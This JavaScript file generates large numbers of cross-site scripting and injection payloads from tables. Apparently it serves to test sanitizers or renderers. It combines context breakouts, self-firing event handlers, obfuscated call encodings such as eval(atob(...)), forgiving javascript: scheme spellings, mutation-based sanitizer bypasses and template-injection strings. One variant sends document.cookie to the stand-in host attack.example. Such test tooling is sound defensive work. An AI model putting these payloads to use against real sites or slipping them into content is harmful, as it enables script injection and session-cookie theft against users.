// Texts that would run, ask or lead away if anything took them for more than text: put together of a table of parts, so that
// nobody's list is needed. Each calls `attacked(number)`, or asks attack.example for something.

/** A host that nobody has: every request for it is a find. */
export const HOST = "attack.example";

/** Ways to write a call. */
const CALLS = [
  (call) => call,
  (call) => call.replace("(", "&#40;").replace(")", "&#41;"),
  (call) => [...call].map((letter) => `&#${letter.codePointAt(0)};`).join(""),
  (call) => [...call].map((letter) => `&#x${letter.codePointAt(0).toString(16).padStart(5, "0")}`).join(""),
  (call) => call.replace("a", "\\u0061"),
  (call) => `eval(atob('${Buffer.from(call).toString("base64")}'))`,
  (call) => `top['${call.slice(0, 3)}'+'${call.slice(3, 8)}']${call.slice(8)}`,
  (call) => `[0].map(()=>${call})`,
  (call) => call.replace("(", "`").replace(")", "`"),
  (call) => `import('data:text/javascript,${call}')`,
  (call) => `fetch('//${HOST}/?'+document.cookie);${call}`,
];

/** Elements that do something by themselves: what stands before the handler's name. */
const HANDLERS = [
  ["img src=x", "onerror"],
  ["svg", "onload"],
  ["body", "onload"],
  ["body", "onpageshow"],
  ["video src=x", "onerror"],
  ["video><source src=x", "onerror"],
  ["audio src=x", "onerror"],
  ["object data=x:y", "onerror"],
  ["link rel=stylesheet href=x", "onerror"],
  ["script src=x:y", "onerror"],
  ["details open", "ontoggle"],
  ["input autofocus", "onfocus"],
  ["select autofocus", "onfocus"],
  ["textarea autofocus", "onfocus"],
  ["button autofocus", "onfocus"],
  ["a href=# autofocus tabindex=0", "onfocus"],
  ["p contenteditable autofocus", "onfocus"],
  ["marquee", "onstart"],
  ["iframe src=about:blank", "onload"],
  ["style", "onload"],
  ["div style=animation:x", "onanimationstart"],
  ["div popover id=p", "onbeforetoggle"],
  ["svg><animate begin=0s attributeName=x dur=1s", "onbegin"],
  ["math><mi", "onpointerenter"],
  ["x-y tabindex=1 autofocus", "onfocus"],
  ["input type=image src=x", "onerror"],
  ["div style=content-visibility:auto", "oncontentvisibilityautostatechange"],
];

/** What ends what a careless writer put around: an attribute, an element, a fence, a string, a comment. */
const BREAKOUTS = [
  "",
  '">',
  "'>",
  "`>",
  ">",
  '" ',
  "' ",
  "--><",
  "--!>",
  "]]>",
  "</script>",
  "</style>",
  "</title>",
  "</textarea>",
  "</noscript>",
  "</template>",
  "</xmp>",
  "</select>",
  "</table>",
  "</code></pre>",
  "</math>",
  "</annotation>",
  "</svg>",
  "\n```\n",
  "\n~~~\n\n",
  "``",
  "$",
  "$$\n\n",
  "\\]",
  "}}",
  "\n\n",
  "\n    \n",
  "](x)",
  "\\",
  "\u0000",
  "\u001b[0m",
  "\u202e",
  "<!--",
  "<![CDATA[",
  "<?x ",
  '<a href="',
  "<img alt='",
  "<svg><style>",
  "<math><mtext><table><mglyph><style>",
  '<noscript><p title="</noscript>',
  "<form><math><mtext></form><form><mglyph><style></math>",
];

/** How a handler's value is written. */
const QUOTES = [(value) => `="${value}"`, (value) => `='${value}'`, (value) => `=${value.replaceAll(" ", "")}`, (value) => `\n=\n"${value}"`, (value) => ` = '${value}' x=`];

const GAPS = [" ", "/", "\t", "\n", "\f", "/x=1 "];

/** Schemes that run, in spellings that browsers forgive, and those that lead out of a page or lead to somebody. */
const SCHEMES = [
  "javascript:",
  "JaVaScRiPt:",
  "java\tscript:",
  "java\nscript:",
  "java\rscript:",
  "\u0001javascript:",
  " javascript:",
  "javascript&colon;",
  "javascript&#58;",
  "javascript&Tab;:",
  "&#106avascript:",
  "javascript://%0a",
  "javascript:/*--></title></style>*/",
  "vbscript:",
  "livescript:",
  "data:text/html,<script>",
  "data:text/html;base64,PHNjcmlwdD4=",
  "data:image/svg+xml,<svg onload=",
  "data:,",
  "blob:",
  "filesystem:",
  "view-source:javascript:",
  "jar:",
  "file:///etc/",
  "about:blank#",
  "chrome://",
  "chrome-extension://",
  "ms-its:",
];

/** Elements and lines with an address in them. */
const PLACES = [
  (to) => `<a href="${to}">x</a>`,
  (to) => `<a href=${to}>x`,
  (to) => `<iframe src="${to}"></iframe>`,
  (to) => `<iframe srcdoc="<a href='${to}' id=c>x</a><script>c.click()</script>"></iframe>`,
  (to) => `<object data="${to}"></object>`,
  (to) => `<embed src="${to}">`,
  (to) => `<form action="${to}"><input type=submit autofocus></form>`,
  (to) => `<button form=f formaction="${to}">x</button><form id=f>`,
  (to) => `<base href="${to}">`,
  (to) => `<meta http-equiv=refresh content="0;url=${to}">`,
  (to) => `<link rel=stylesheet href="${to}">`,
  (to) => `<svg><a xlink:href="${to}"><text y=9>x</text></a></svg>`,
  (to) => `<svg><use href="${to}#x" /></svg>`,
  (to) => `<svg><animate attributeName=href values="${to}" /></svg>`,
  (to) => `<math href="${to}">x</math>`,
  (to) => `<img srcset="${to} 1x" src="${to}">`,
  (to) => `<table background="${to}"><td>x`,
  (to) => `<p style="background:url(${to})">x</p>`,
  (to) => `<style>@import "${to}";</style>`,
  (to) => `<style>*{background-image:url('${to}')}</style>`,
  (to) => `<video poster="${to}" src="${to}"></video>`,
  (to) => `<script src="${to}"></script>`,
  (to) => `<area href="${to}" coords=0,0,9,9><map name=m>`,
  (to) => `[x](${to})`,
  (to) => `[x](<${to}>)`,
  (to) => `![x](${to})`,
  (to) => `<${to}>`,
  (to) => `[x][1]\n\n[1]: ${to}`,
  (to) => `[x]: ${to} "x"\n\n[x]`,
  (to) => `![x](x"onerror="${to})`,
  (to) => `\\href{${to}}{x}`,
  (to) => `\\url{${to}} \\includegraphics{${to}}`,
  (to) => `{"url":"${to}","__proto__":{"href":"${to}"}}`,
  (to) => to,
];

/** What stands for itself. */
const WHOLE = [
  (call) => `<script>${call}</script>`,
  (call) => `<ScRiPt\n>${call}</sCrIpT\n>`,
  (call) => `<script type=module>${call}</script>`,
  (call) => `<script src=data:text/javascript,${call}></script>`,
  (call) => `<scr<script>ipt>${call}</scr</script>ipt>`,
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<svg><foreignObject><iframe srcdoc="<script>top.${call}</script>"></iframe></foreignObject></svg>`,
  (call) => `<template shadowrootmode=open><img src=x onerror=${call}></template>`,
  (call) => `{{constructor.constructor('${call}')()}}`,
  (call) => `\${${call}}`,
  (call) => `<%= ${call} %>`,
  (call) => `';${call};//\\';${call};//";${call};//`,
  (call) => `</script><script>${call}</script>`,
  (call) => `\\u003cscript\\u003e${call}\\u003c/script\\u003e`,
  (call) => `%3Cscript%3E${call}%3C/script%3E`,
  (call) => `+ADw-script+AD4-${call}+ADw-/script+AD4-`,
  (call) => `＜script＞${call}＜/script＞`,
  (call) => `<dialog open onclose=${call}><form method=dialog><button autofocus>x`,
];

/** A number for a place in a list: the same every time, and nothing like the one before. */
function* numbers(seed) {
  for (let state = BigInt(seed) | 1n; ; ) {
    state = (state * 6364136223846793005n + 1442695040888963407n) & 0xffffffffffffffffn;
    yield Number(state >> 33n);
  }
}

/** So many different payloads; another seed gives others. */
export function payloads(count, seed = 1) {
  const random = numbers(seed);
  const one = (list) => list[random.next().value % list.length];
  const kinds = [
    (call) => {
      const [tag, handler] = one(HANDLERS);
      return `${one(BREAKOUTS)}<${tag}${one(GAPS)}${handler}${one(QUOTES)(one(CALLS)(call))}>`;
    },
    (call) => one(BREAKOUTS) + one(PLACES)(one(SCHEMES) + one(CALLS)(call)),
    (call) => one(BREAKOUTS) + one(PLACES)(one(["https://", "http://", "//", "\\\\", "/\\", "https:/", "ftp://", "ws://"]) + `${HOST}/${call}`),
    (call) => one(BREAKOUTS) + one(WHOLE)(one(CALLS)(call)),
  ];
  const found = new Set();
  while (found.size < count) found.add(one(kinds)(`attacked(${found.size})`));
  return [...found];
}
